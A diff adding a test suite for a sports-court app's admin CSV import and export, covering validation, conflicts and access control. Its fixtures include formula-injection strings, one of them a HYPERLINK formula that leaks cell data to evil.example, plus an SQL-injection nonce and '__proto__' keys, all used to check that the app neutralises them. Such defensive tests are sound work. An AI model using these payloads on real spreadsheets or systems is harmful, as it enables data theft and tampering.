@@ -1,0 +1,522 @@
+import { within } from "@testing-library/dom";
+import { parse } from "csv-parse/sync";
+import { beforeEach, describe, expect, test, vi } from "vitest";
+import { CourtRepository } from "~/features/courts/court.repository.server";
+import { type SignedIn, startApp } from "../../support/app";
+import { addEquipment } from "../../support/catalogue";
+import { formBehind, press } from "../../support/form";
+import { type ReadPage, readPage } from "../../support/page";
+import { chance } from "../../support/random";
+
+const PATH = "/admin/import";
+
+let app: Awaited<ReturnType<typeof startApp>>;
+let admin: SignedIn;
+beforeEach(async () => {
+  app = await startApp();
+  admin = await app.signedIn({ isSuperAdmin: true, firstName: "Meera" });
+});
+
+const addCourt = (more = {}) =>
+  app.repositories().courts.add({ name: "Smash Club", location: "Powai", ...more });
+
+/** A court of such texts. @param next gives a whole number below its argument */
+const hostileCourt = (next: (below: number) => number, text: () => string) => ({
+  name: `${text()}.`,
+  location: `${text()}.`,
+  description: text(),
+  priceRange: text().slice(0, 20).toWellFormed(),
+  contactInfo: next(3) ? text() : null,
+  membershipInfo: text(),
+  membershipRequired: next(3) === 0,
+  numberOfCourts: 1 + next(20),
+  amenities: Array.from({ length: next(4) }, text),
+  imageUrl: next(3) ? "https://images.example/a,b;c.jpg" : null,
+});
+
+/** The same of a racket or ball. */
+const hostileEquipment = (next: (below: number) => number, text: () => string) => ({
+  name: `${text()}.`,
+  type: next(3) ? "racket" : "ball",
+  brand: next(3) ? text() : null,
+  price: next(3) ? next(10_000_000) : null,
+  description: text(),
+  specifications: {
+    [`${text().replace(/\s/g, "")}a`]: text(),
+    weight: next(400),
+    Light: next(3) === 0,
+    nothing: null,
+  },
+});
+
+/** Everything that an import may touch. */
+const rowsOf = () =>
+  app.entities().execute(
+    `select (select jsonb_agg(c order by id) from courts c) as courts,
+      (select jsonb_agg(e order by id) from equipment e) as equipment,
+      (select jsonb_agg(a order by id) from audit_entries a) as audit,
+      (select jsonb_agg(i order by at) from sheet_imports i) as imports`,
+  );
+
+async function check(text: string, kind = "courts", status = 200): Promise<ReadPage> {
+  const before = await rowsOf();
+  const answer = await admin.post(PATH, { kind, text });
+  expect(answer.status).toBe(status);
+  expect(await rowsOf()).toEqual(before);
+  return readPage(answer);
+}
+
+const rows = (page: ReadPage) =>
+  within(page.getByRole("table"))
+    .getAllByRole("row")
+    .slice(1)
+    .map(({ textContent }) => textContent);
+
+const textOf = (page: ReadPage) => {
+  const area = page.getByRole("textbox", { name: "Rows" });
+  return "value" in area ? area.value : null;
+};
+
+/** Checks rows and imports them. */
+async function bring(text: string, kind = "courts") {
+  const page = await check(text, kind);
+  const answer = await press(
+    admin,
+    page,
+    page.getByRole("button", { name: /^Import \d+ rows?$/ }).textContent,
+  );
+  expect(answer.status).toBe(303);
+  return readPage(await admin.get(answer.headers.get("Location") ?? ""));
+}
+
+describe("a check", () => {
+  test("tells what would be added and changed, and writes nothing", async () => {
+    const { id } = await addCourt({ priceRange: "₹500", amenities: ["Parking"], numberOfCourts: 3 });
+    const same = await addCourt({ name: "Same", location: "Dadar" });
+    const page = await check(
+      `id,name,location,priceRange,amenities\n,New Club,Worli,₹900,"Showers, Café, showers"\n${id},Smash Club,Powai,₹700,\n${same.id},Same,Dadar,,\n`,
+    );
+    page.getByRole("heading", { level: 2, name: "1 court to add, 1 to change" });
+    page.getByText("Nothing was written yet.");
+    const [added, changed, ...others] = rows(page);
+    expect(others).toEqual([]);
+    for (const part of [
+      "2",
+      "New",
+      "New Club",
+      "LocationWorli",
+      "Price range₹900",
+      "AmenitiesShowers, Café",
+    ]) {
+      expect(added).toContain(part);
+    }
+    for (const part of ["3", "Changed", "removed: ₹500", "added: ₹700", "removed: Parking", `court ${id}`]) {
+      expect(changed).toContain(part);
+    }
+    expect(changed).not.toContain("Number of courts");
+    page.getByText("1 row says what is there already and changes nothing: line 4.");
+    page.getByRole("button", { name: "Import 2 rows" });
+  });
+
+  test("tells each row's errors by column, in the words of the forms, and keeps the text", async () => {
+    const { id } = await addCourt();
+    const text = `id,name,location,numberOfCourts,imageUrl,membershipRequired,amenities\n,Good Club,Powai,2,,no,\n,,Powai,0x4,ftp://x,maybe,${"a".repeat(61)}\n99,X,Y,1,,,\nabc,X,Y,1,,,\n${id},Two,Powai,1,,,\n${id},Three,Powai,1,,,\n,Short\n`;
+    const page = await check(text, "courts", 422);
+    page.getByRole("heading", { level: 2, name: "5 rows have errors" });
+    expect(
+      within(page.getByRole("alert"))
+        .getAllByRole("link")
+        .map((link) => [link.getAttribute("href"), link.textContent]),
+    ).toEqual([
+      ["#line-3", "Line 3: Court name cannot be empty"],
+      ["#line-3", "Line 3: Please provide a valid image URL or upload an image"],
+      ["#line-3", "Line 3: Number of courts must be a whole number from 1 to 20"],
+      ["#line-3", "Line 3: Membership required must be true or false"],
+      ["#line-3", "Line 3: An amenity can be at most 60 characters long"],
+      ["#line-4", 'Line 4: There is no court "99". Leave the id empty to add one'],
+      ["#line-5", 'Line 5: There is no court "abc". Leave the id empty to add one'],
+      ["#line-7", `Line 7: Line 6 is about the court ${id} already`],
+      ["#line-8", "Line 8: This row has 2 cells, but there are 7 headings"],
+    ]);
+    expect(rows(page)[1]).toContain("Number of courts: Number of courts must be");
+    expect(page.queryByRole("button", { name: /^Import/ })).toBeNull();
+    expect(textOf(page)).toBe(text);
+  });
+
+  test("warns of what is there already, and of what is there twice", async () => {
+    const { id } = await addCourt();
+    const other = await addCourt({ name: "Other", location: "Powai" });
+    const page = await check(
+      `id,name,location\n,SMASH  club,powai\n,New,Worli\n,new,Worli\n${other.id},Smash Club,Powai\n`,
+    );
+    const [first, second, third, fourth] = rows(page);
+    expect(first).toContain(`There is a court of this name and location already: ${id}.`);
+    expect(second).not.toContain("Warning");
+    expect(third).toContain("Line 3 has the same name and location.");
+    expect(fourth).toContain(`There is a court of this name and location already: ${id}.`);
+    expect(fourth).toContain("Line 2 has the same name and location.");
+    page.getByRole("button", { name: "Import 4 rows" });
+  });
+
+  test("tells which columns it did not read", async () => {
+    const page = await check("name;location;Colour;average rating\nA;B;blue;5\n");
+    page.getByText('There is no column called "Colour": it was not read.');
+    page.getByText('There is no column called "average rating": it was not read.');
+  });
+
+  test.each([
+    ["kind", { kind: "clubs", text: "name\nA" }, "Choose what the sheet holds"],
+    ["kind", { text: "name\nA" }, "Choose what the sheet holds"],
+    ["text", { kind: "courts", text: " \n" }, "Choose a file, or paste the rows here"],
+    ["text", { kind: "courts" }, "Choose a file, or paste the rows here"],
+    [
+      "text",
+      { kind: "courts", text: 'name\n"A' },
+      "A cell begins with a quotation mark that is never closed",
+    ],
+    ["text", { kind: "courts", text: "name,location\n" }, "There are no rows below the headings"],
+  ])("says what is wrong with the %s: %j", async (field, fields, message) => {
+    const answer = await admin.post(PATH, fields);
+    expect(answer.status).toBe(422);
+    const page = await readPage(answer);
+    const link = within(page.getByRole("alert")).getByRole("link", { name: message });
+    expect(link.getAttribute("href")).toBe(`#sheet-${field}`);
+    if ("text" in fields) expect(textOf(page)).toBe(fields.text);
+  });
+
+  test("gives a file back as text", async () => {
+    const body = new FormData();
+    body.set("kind", "courts");
+    body.set("text", "");
+    body.set("file", new File(["\uFEFFname,location\r\nGlass House,Powai\r\n"], "courts.csv"));
+    const headers = { Origin: app.origin, Cookie: admin.cookies.header };
+    const answer = await app.send(new Request(app.origin + PATH, { method: "POST", body, headers }));
+    expect(answer.status).toBe(200);
+    const page = await readPage(answer);
+    expect(textOf(page)).toBe("name,location\nGlass House,Powai\n");
+    expect(page.getByRole("button", { name: "Import 1 row" }).getAttribute("form")).toBe("sheet");
+  });
+});
+
+describe("an import", () => {
+  const TEXT = "name,location,contactInfo\nGlass House,Worli,+91 22\nWall,Dadar,\n";
+
+  test("writes all rows, says so, and the audit log has each", async () => {
+    const { id } = await addCourt();
+    const page = await bring(`id,name,location\n${id},Renamed,Powai\n,Glass House,Worli\n,Wall,Dadar\n`);
+    page.getByText(/2 courts added, 1 changed/);
+    within(page.getByRole("status")).getByText("Import done");
+    const all = await app.repositories().courts.all();
+    expect(all.map(({ name }) => name)).toEqual(["Renamed", "Glass House", "Wall"]);
+    const entries = await app
+      .entities()
+      .execute("select actor_id, action, subject_kind, subject_name from audit_entries order by id");
+    const by = { actor_id: admin.viewer.id, subject_kind: "court" };
+    expect(entries).toEqual([
+      { ...by, action: "changed", subject_name: "Renamed" },
+      { ...by, action: "added", subject_name: "Glass House" },
+      { ...by, action: "added", subject_name: "Wall" },
+    ]);
+  });
+
+  test("changes only what has columns, and clears what is empty", async () => {
+    const { id } = await addCourt({
+      description: "Windy.",
+      priceRange: "₹500",
+      amenities: ["Parking, free", "Café"],
+      membershipRequired: true,
+      numberOfCourts: 4,
+    });
+    await bring(`id,price range,numberOfCourts\n${id},,\n`);
+    expect(await app.repositories().courts.find(id)).toMatchObject({
+      name: "Smash Club",
+      description: "Windy.",
+      priceRange: null,
+      numberOfCourts: 1,
+      membershipRequired: true,
+      amenities: ["Parking, free", "Café"],
+      version: 2,
+    });
+  });
+
+  test("is done once, however often it is sent", async () => {
+    const page = await check(TEXT);
+    const send = () => press(admin, page, "Import 2 rows");
+    const answers = await Promise.all([send(), send(), send()]);
+    answers.push(await send());
+    const locations = new Set(answers.map(({ headers }) => headers.get("Location")));
+    expect([answers.map(({ status }) => status), locations.size]).toEqual([[303, 303, 303, 303], 1]);
+    expect(await app.repositories().courts.all()).toHaveLength(2);
+  });
+
+  test("of another text under the same name is only a check", async () => {
+    const page = await check(TEXT);
+    await press(admin, page, "Import 2 rows");
+    const answer = await press(admin, page, "Import 2 rows", { text: `${TEXT}Third,Parel,\n` });
+    expect(answer.status).toBe(409);
+    const again = await readPage(answer);
+    expect(rows(again)).toHaveLength(3);
+    expect(await app.repositories().courts.all()).toHaveLength(2);
+  });
+
+  test("is refused whole where a row has changed since the check, which is told", async () => {
+    const { id, version } = await addCourt();
+    const text = `id,name,location\n,Glass House,Worli\n${id},Mine,Powai\n`;
+    const page = await check(text);
+    await app.repositories().courts.change(id, version, { priceRange: "₹555" });
+    const before = await rowsOf();
+    const answer = await press(admin, page, "Import 2 rows");
+    expect(answer.status).toBe(409);
+    expect(await rowsOf()).toEqual(before);
+    const again = await readPage(answer);
+    within(again.getByRole("alert")).getByText(/^Nothing was imported: not all is as it was/);
+    expect(rows(again).map((row) => row?.includes("Not as it was checked"))).toEqual([false, true]);
+    expect(textOf(again)).toBe(text);
+    expect((await press(admin, again, "Import 2 rows")).status).toBe(303);
+    expect(await app.repositories().courts.find(id)).toMatchObject({ name: "Mine", priceRange: "₹555" });
+  });
+
+  test("is refused whole where a row changes while it is written", async () => {
+    const { id } = await addCourt();
+    const page = await check(`id,name,location\n,Glass House,Worli\n${id},Mine,Powai\n`);
+    const before = await rowsOf();
+    const spy = vi.spyOn(CourtRepository.prototype, "change").mockResolvedValue({ outcome: "stale" });
+    const answer = await press(admin, page, "Import 2 rows");
+    spy.mockRestore();
+    expect(answer.status).toBe(409);
+    expect(await rowsOf()).toEqual(before);
+  });
+
+  test("is refused where somebody has added the same meanwhile, or taken it away", async () => {
+    const { id } = await addCourt();
+    const first = await check(TEXT);
+    const second = await check(TEXT);
+    await press(admin, first, "Import 2 rows");
+    expect((await press(admin, second, "Import 2 rows")).status).toBe(409);
+    const change = await check(`id,name\n${id},Mine\n`);
+    await app.repositories().courts.remove(id);
+    const answer = await press(admin, change, "Import 1 row");
+    expect(answer.status).toBe(422);
+    expect(rows(await readPage(answer))[0]).toContain(`There is no court "${id}"`);
+  });
+
+  test.each(["", "x", "00000000-0000-0000-0000-00000000000", "'; drop table courts; --", "\0"])(
+    "under a name that no check has given is only a check: %j",
+    async (nonce) => {
+      const page = await check(TEXT);
+      const before = await rowsOf();
+      for (const more of [{ nonce }, { seen: "x y" }, { seen: "" }]) {
+        const { fields } = formBehind(page, "Import 2 rows");
+        expect((await admin.post(PATH, { ...fields, ...more })).status).toBe(409);
+      }
+      expect(await rowsOf()).toEqual(before);
+    },
+  );
+
+  test("that fails half way has written nothing, keeps the text, and can be sent again", async () => {
+    const page = await check(TEXT);
+    const before = await rowsOf();
+    const add = CourtRepository.prototype.add;
+    let calls = 0;
+    const spy = vi.spyOn(CourtRepository.prototype, "add").mockImplementation(function (
+      this: CourtRepository,
+      fields,
+    ) {
+      calls += 1;
+      if (calls === 2) throw new Error("Nobody thought of this.");
+      return add.call(this, fields);
+    });
+    const answer = await press(admin, page, "Import 2 rows");
+    spy.mockRestore();
+    expect(answer.status).toBe(500);
+    expect(await rowsOf()).toEqual(before);
+    expect(textOf(await readPage(answer))).toBe(TEXT);
+    expect((await press(admin, page, "Import 2 rows")).status).toBe(303);
+  });
+
+  test("takes 500 rows", async () => {
+    const text = `name,location\n${Array.from({ length: 500 }, (_, at) => `Club ${at},Powai\n`).join("")}`;
+    const page = await bring(text);
+    page.getByText(/500 courts added, 0 changed/);
+    expect(await app.repositories().courts.all()).toHaveLength(500);
+  });
+});
+
+describe("rackets and balls", () => {
+  test("come with specifications as JSON, or in columns of their own", async () => {
+    await bring(
+      `name,type,price,specifications,spec:weight,Spec: Head size\nVertex,Racket,14999,"{""shape"": ""round"", ""weight"": 1}",365,\nSpeed,ball,,,,large\n`,
+      "equipment",
+    );
+    expect(await app.repositories().equipment.all()).toMatchObject([
+      { name: "Vertex", type: "racket", price: 14_999, specifications: { shape: "round", weight: "365" } },
+      { name: "Speed", type: "ball", price: null, specifications: { "Head size": "large" } },
+    ]);
+  });
+
+  test("keep specifications without a column, and numbers that stay the same", async () => {
+    const id = await addEquipment(app.entities(), {
+      specifications: { weight: 365, shape: "round", Core: "EVA" },
+    });
+    const page = await check(`id,spec:Weight\n${id},365\n`, "equipment");
+    page.getByText("There is nothing to import: all rows say what is there already.");
+    await bring(`id,spec:Weight,spec:core,spec:face\n${id},365,,carbon\n`, "equipment");
+    const [item] = await app.repositories().equipment.all();
+    expect(item?.specifications).toEqual({ weight: 365, shape: "round", face: "carbon" });
+  });
+
+  test.each([
+    ["type", "name,type\nA,shoe\n", "Equipment type must be racket or ball"],
+    ["price", "name,type,price\nA,ball,1e3\n", /^Line 2: Price must be a whole number of rupees/],
+    ["no JSON", "name,type,specifications\nA,ball,round\n", /Specifications must be a JSON object/],
+    ["nested", 'name,type,specifications\nA,ball,"{""a"":[1]}"\n', /must be text, a plain number/],
+    ["forbidden", "name,type,spec:__proto__\nA,ball,x\n", /cannot be called "__proto__"/],
+    ["twice", "name,type,spec:head size,spec:headSize\nA,ball,x,y\n", /is there twice/],
+    ["deep", `name,type,specifications\nA,ball,"${"[".repeat(100_000)}"\n`, /must be a JSON object/],
+  ])("are refused with the wrong %s", async (_, text, message) => {
+    const page = await check(text, "equipment", 422);
+    within(page.getByRole("alert")).getByText(message, { exact: false });
+  });
+
+  test("warn of one of the same name and brand", async () => {
+    const id = await addEquipment(app.entities(), { brand: "Head" });
+    const page = await check("name,type,brand\nvertex,racket,HEAD\nVertex,racket,Other\n", "equipment");
+    expect(rows(page).map((row) => row?.includes(`of this name and brand already: ${id}.`))).toEqual([
+      true,
+      false,
+    ]);
+  });
+});
+
+describe("an export", () => {
+  const file = async (name: string) => {
+    const answer = await admin.get(`/admin/export/${name}.csv`);
+    expect([answer.status, app.logged]).toEqual([200, []]);
+    return answer;
+  };
+  const read = async (answer: Response) =>
+    new TextDecoder("utf-8", { ignoreBOM: true }).decode(await answer.arrayBuffer());
+
+  test("is a file of its own for each kind, and one with the headings alone", async () => {
+    await addCourt({ contactInfo: "+91 22", amenities: ["Café", "Pool"] });
+    const answer = await file("courts");
+    expect(answer.headers.get("Content-Type")).toBe("text/csv; charset=utf-8; header=present");
+    expect(answer.headers.get("Cache-Control")).toBe("private, no-store");
+    expect(answer.headers.get("Content-Disposition")).toMatch(
+      /^attachment; filename="bandeja-courts-\d{4}-\d\d-\d\d\.csv"$/,
+    );
+    const heads =
+      '"id","name","location","description","priceRange","contactInfo","numberOfCourts","membershipRequired","membershipInfo","imageUrl","amenities"';
+    expect(await read(answer)).toBe(
+      `\uFEFF${heads}\r\n"1","Smash Club","Powai",,,"'+91 22","1","false",,,"Café, Pool"\r\n`,
+    );
+    expect(await read(await file("courts-template"))).toBe(`\uFEFF${heads}\r\n`);
+    expect(await read(await file("equipment-template"))).toBe(
+      '\uFEFF"id","name","type","brand","price","description","imageUrl","specifications"\r\n',
+    );
+  });
+
+  test.each(["clubs.csv", "courts", "courts.csv.csv", "__proto__.csv", "courts-.csv"])(
+    "is none where there is no such file: %s",
+    async (name) => {
+      expect((await admin.get(`/admin/export/${name}`)).status).toBe(404);
+    },
+  );
+
+  const HOSTILE = [
+    "=1+1",
+    '=HYPERLINK("https://evil.example?x="&A1,"Click")',
+    "+91 22",
+    "-5",
+    "@SUM(1)",
+    "'=1",
+    "''+",
+    "'",
+    '"',
+    '""',
+    'a"b',
+    ",",
+    ";",
+    "\t;",
+    "a,b;c\td",
+    "two\nlines",
+    '"\n"',
+    "[a, b]",
+    '["x"]',
+    "{}",
+    "null",
+    "\u202Eabc",
+    "🎾",
+    "é,ü",
+    "<b>&amp;</b>",
+    "true",
+    "0",
+    "1e3",
+    "id",
+    "sep=;",
+    "\\",
+    "\\n",
+    "x\u2028y",
+  ];
+
+  test("that is imported again changes nothing, whatever the texts are", async () => {
+    const next = chance(7);
+    const text = () =>
+      Array.from({ length: 1 + next(3) }, () => HOSTILE[next(HOSTILE.length)] ?? "").join(next(3) ? "" : " ");
+    for (let at = 0; at < 60; at++) {
+      expect((await admin.json("POST", "/api/courts", hostileCourt(next, text))).status).toBe(201);
+      expect((await admin.json("POST", "/api/equipment", hostileEquipment(next, text))).status).toBe(201);
+    }
+    for (const kind of ["courts", "equipment"]) {
+      const sheet = await read(await file(kind));
+      const cells = parse(sheet, { bom: true }).flat();
+      expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
+      for (const form of [sheet, sheet.replaceAll("\r\n", "\n")]) {
+        const page = await check(form, kind);
+        page.getByText(/^60 rows say what is there already and change nothing: lines 2–/);
+        expect(page.queryByRole("button", { name: /^Import/ })).toBeNull();
+      }
+    }
+  });
+
+  test("of what was exported and emptied brings back what was there", async () => {
+    await addCourt({ name: "'=Club", contactInfo: "@here", amenities: ["a,b", "=c"] });
+    const { id: _, version: __, createdAt: ___, updatedAt: ____, ...before } = await addCourt({ name: "B" });
+    const sheet = (await read(await file("courts"))).replace(/^"\d+"/gm, '""');
+    const { courts } = app.repositories();
+    for (const { id } of await courts.all()) await courts.remove(id);
+    await bring(sheet);
+    const [first, second] = await app.repositories().courts.all();
+    expect(first).toMatchObject({ name: "'=Club", contactInfo: "@here", amenities: ["a,b", "=c"] });
+    expect(second).toMatchObject(before);
+  });
+});
+
+describe("who may not, or not any more", () => {
+  const TEXT = "name,location\nGlass House,Worli\n";
+
+  test("a player is refused, and nothing is written", async () => {
+    const player = await app.signedIn();
+    for (const path of [PATH, `${PATH}.data`]) {
+      expect((await player.post(path, { kind: "courts", text: TEXT })).status).toBe(403);
+    }
+    expect((await player.get("/admin/export/courts.csv")).status).toBe(403);
+    expect((await app.visitor().get("/admin/export/courts.csv")).status).toBe(401);
+  });
+
+  test("a session that has ended costs nobody the text", async () => {
+    const visitor = app.visitor();
+    const answer = await visitor.post(PATH, { kind: "courts", text: TEXT });
+    expect(answer.headers.get("Location")).toBe("/api/login?returnTo=%2Fadmin%2Fimport");
+    const again = await app.signedIn({ isSuperAdmin: true }, visitor.cookies);
+    expect(textOf(await readPage(await again.get(PATH)))).toBe(TEXT);
+  });
+
+  test("not even a long one", async () => {
+    const text = `name,location\n${"Glass House,Worli\n".repeat(30_000)}`;
+    const answer = await app.visitor().post(PATH, { kind: "courts", text });
+    expect(answer.status).toBe(401);
+    const page = await readPage(answer);
+    expect(formBehind(page, "Send again").fields.text).toEqual([text]);
+  });
+});
